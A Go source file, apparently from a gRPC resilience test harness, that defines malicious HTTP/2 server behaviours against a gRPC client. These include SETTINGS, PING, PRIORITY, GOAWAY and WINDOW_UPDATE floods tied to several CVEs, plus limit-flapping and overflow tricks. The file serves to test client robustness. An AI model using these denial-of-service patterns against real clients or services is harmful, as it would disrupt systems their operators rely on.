// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// serveFlood answers no call; it reads, or not, and runs round again and again.
func serveFlood(reads bool, round script) attack {
	return func(a *attacker.Attacker) error {
		return a.Serve(func(c *attacker.Conn) error {
			if err := greet(c); err != nil {
				return err
			}
			listen(c, reads)
			return repeat(c, round)
		})
	}
}

// greet sends the SETTINGS with which a server begins.
func greet(c *attacker.Conn) error {
	if err := c.Settings(); err != nil {
		return err
	}
	return c.Flush()
}

// clientControlKinds are attacks on a client with frames that belong to no stream.
var clientControlKinds = []Kind{
	{
		Name: "client/settings/flood", Work: callers(10),
		About:  "empty SETTINGS, acknowledgements are read (CVE-2019-9515)",
		Attack: serveFlood(true, frame(wire.Settings, 0, 0, nil)),
	},
	{
		Name: "client/settings/flood-unread", Work: callers(10),
		About:  "empty SETTINGS whose acknowledgements nobody reads (CVE-2019-9515)",
		Attack: serveFlood(false, frame(wire.Settings, 0, 0, nil)),
	},
	{
		Name: "client/settings/huge", Work: callers(10),
		About:  "SETTINGS of 2,730 entries each",
		Attack: serveFlood(true, frame(wire.Settings, 0, 0, manySettings(wire.MaxHeaderListSize))),
	},
	{
		Name: "client/settings/window-flap", Work: streams(orders.Sink, 200), Own: 200 * poured,
		About:  "INITIAL_WINDOW_SIZE between 0 and 2^31-1 while 200 streams want to send",
		Attack: serveFlood(true, flapRound(wire.InitialWindowSize, 0, 1<<31-1)),
	},
	{
		Name: "client/settings/table-flap", Work: callers(10),
		About:  "HEADER_TABLE_SIZE between 0 and 2^32-1 (RFC 7541, 4.2)",
		Attack: serveFlood(true, flapRound(wire.HeaderTableSize, 0, 1<<32-1)),
	},
	{
		Name: "client/settings/streams-flap", Work: callers(100),
		About:  "MAX_CONCURRENT_STREAMS between 0 and 1,000 while 100 callers wait",
		Attack: serveFlood(true, flapRound(wire.MaxConcurrentStreams, 0, 1000)),
	},
	{
		Name: "client/settings/places-taken-back", Work: &orders.Work{Method: orders.Echo, Callers: 3000, Deadline: time.Minute}, Own: 3000 * calling,
		About:  "MAX_CONCURRENT_STREAMS that wakes 3,000 callers who wait, and is 0 again before they look",
		Attack: takesPlacesBack,
	},
	{
		Name: "client/settings/frame-size-0", Work: callers(10),
		About: "MAX_FRAME_SIZE of 0, which is an error (CVE-2026-33814)",
		Attack: serveFlood(true, func(c *attacker.Conn) error {
			return c.Settings(wire.Setting{ID: wire.MaxFrameSize, Value: 0})
		}),
	},
	{
		Name: "client/settings/list-size-0", Work: callers(10),
		About: "MAX_HEADER_LIST_SIZE of 0: no call may be made",
		Attack: serveOnce(func(c *attacker.Conn) error {
			return c.Settings(wire.Setting{ID: wire.MaxHeaderListSize, Value: 0})
		}),
	},
	{
		Name: "client/settings/no-streams", Work: callers(200),
		About: "MAX_CONCURRENT_STREAMS of 0 while 200 callers wait",
		Attack: serveOnce(func(c *attacker.Conn) error {
			return c.Settings(wire.Setting{ID: wire.MaxConcurrentStreams, Value: 0})
		}),
	},
	{
		Name: "client/ping/flood", Work: callers(10),
		About:  "PINGs, answers are read (CVE-2019-9512)",
		Attack: serveFlood(true, frame(wire.Ping, 0, 0, eightBytes)),
	},
	{
		Name: "client/ping/flood-unread", Work: callers(10), Short: true,
		About:  "PINGs whose answers nobody reads (CVE-2019-9512)",
		Attack: serveFlood(false, frame(wire.Ping, 0, 0, eightBytes)),
	},
	{
		Name: "client/ping/ack-flood", Work: callers(10),
		About:  "answers to PINGs that were never sent",
		Attack: serveFlood(true, frame(wire.Ping, wire.Ack, 0, eightBytes)),
	},
	{
		Name: "client/ping/linger", Work: &orders.Work{Method: orders.Deaf, Callers: 1, Channels: 500, Deadline: time.Minute}, Time: 3 * time.Second,
		About: "a PING every 150 ms on 500 connections: just when they are about to park",
		Attack: func(a *attacker.Attacker) error {
			return a.Serve(func(c *attacker.Conn) error {
				if err := greet(c); err != nil {
					return err
				}
				c.Drain(nil)
				return every(c, 150*time.Millisecond, frame(wire.Ping, 0, 0, eightBytes))
			})
		},
	},
	{
		Name: "client/goaway/at-once", Work: callers(50), Short: true,
		About:  "GOAWAY as soon as a connection is there, again and again",
		Attack: serveOnce(goAway(0)),
	},
	{
		Name: "client/goaway/storm", Work: callers(50),
		About:  "GOAWAY of 2^31-1 again and again",
		Attack: serveFlood(true, frame(wire.GoAway, 0, 0, append(wire.Uint32(1<<31-1), wire.Uint32(0)...))),
	},
	{
		Name: "client/goaway/debug-data", Work: callers(50),
		About:  "GOAWAY with 16 KB of debug data, again and again",
		Attack: serveFlood(true, frame(wire.GoAway, 0, 0, append(append(wire.Uint32(1<<31-1), wire.Uint32(wire.Calm)...), make([]byte, 16000)...))),
	},
	{
		Name: "client/goaway/rising", Work: callers(50),
		About: "GOAWAYs whose last stream rises (RFC 9113, 6.8: must not)",
		Attack: serveFlood(true, func(c *attacker.Conn) error {
			for last := range uint32(1000) {
				if err := c.Frame(wire.GoAway, 0, 0, append(wire.Uint32(2*last+1), wire.Uint32(0)...)); err != nil {
					return err
				}
			}
			return nil
		}),
	},
	{
		Name: "client/frame/priority-flood", Work: callers(10),
		About: "PRIORITY (CVE-2019-9513)",
		Attack: serveFlood(true, func(c *attacker.Conn) error {
			return c.Frame(wire.Priority, 0, 1, []byte{0, 0, 0, 0, 10})
		}),
	},
	{
		Name: "client/frame/unknown-flood", Work: callers(10),
		About:  "frames of a type that does not exist (RFC 9113, 5.5: ignore)",
		Attack: serveFlood(true, frame(0xfa, 0, 0, make([]byte, 100))),
	},
	{
		Name: "client/frame/altsvc", Work: callers(10),
		About:  "ALTSVC of 16 KB (RFC 7838, 4)",
		Attack: serveFlood(true, frame(0xa, 0, 0, append([]byte{0, 0}, make([]byte, 16000)...))),
	},
	{
		Name: "client/frame/push", Work: callers(10), Busy: failing,
		About: "PUSH_PROMISE, which the client has switched off (RFC 9113, 8.4)",
		Attack: serveStreams(func(c *attacker.Conn, id uint32) error {
			return c.Frame(wire.PushPromise, wire.EndHeaders, id, wire.Uint32(2))
		}),
	},
	{
		Name: "client/window/update-flood", Work: callers(10),
		About:  "WINDOW_UPDATE of the connection",
		Attack: serveFlood(true, frame(wire.WindowUpdate, 0, 0, wire.Uint32(1))),
	},
	{
		Name: "client/window/overflow", Work: callers(10),
		About:  "a window of the connection above 2^31-1",
		Attack: serveFlood(true, overflow),
	},
}

// serveOnce greets with first and then answers no call.
func serveOnce(first script) attack {
	return func(a *attacker.Attacker) error {
		return a.Serve(func(c *attacker.Conn) error {
			if err := first(c); err != nil {
				return err
			}
			if err := c.Flush(); err != nil {
				return err
			}
			return c.EachFrame(func(wire.Frame) error { return nil })
		})
	}
}

// serveStreams does something to each stream.
func serveStreams(do func(*attacker.Conn, uint32) error) attack {
	return func(a *attacker.Attacker) error {
		return a.Serve(func(c *attacker.Conn) error {
			return c.EachStream(func(id uint32) error { return do(c, id) })
		})
	}
}

func flapRound(id uint16, low, high uint32) script {
	return func(c *attacker.Conn) error {
		if err := c.Settings(wire.Setting{ID: id, Value: low}); err != nil {
			return err
		}
		return c.Settings(wire.Setting{ID: id, Value: high})
	}
}

// takesPlacesBack gives no place from the beginning, then many for as long as a frame takes to read, each
// millisecond, as who was woken has to wait again before it can be woken again.
func takesPlacesBack(a *attacker.Attacker) error {
	none, many := wire.Setting{ID: wire.MaxConcurrentStreams, Value: 0}, wire.Setting{ID: wire.MaxConcurrentStreams, Value: 1 << 20}
	return a.Serve(func(c *attacker.Conn) error {
		if err := first(c.Settings(none), c.Flush()); err != nil {
			return err
		}
		listen(c, true)
		c.Attacker().Sleep(200 * time.Millisecond)
		return every(c, time.Millisecond, func(c *attacker.Conn) error {
			return first(c.Settings(many, none), c.Flush())
		})
	})
}

func goAway(last uint32) script {
	return func(c *attacker.Conn) error {
		if err := c.Settings(); err != nil {
			return err
		}
		return c.Frame(wire.GoAway, 0, 0, append(wire.Uint32(last), wire.Uint32(0)...))
	}
}
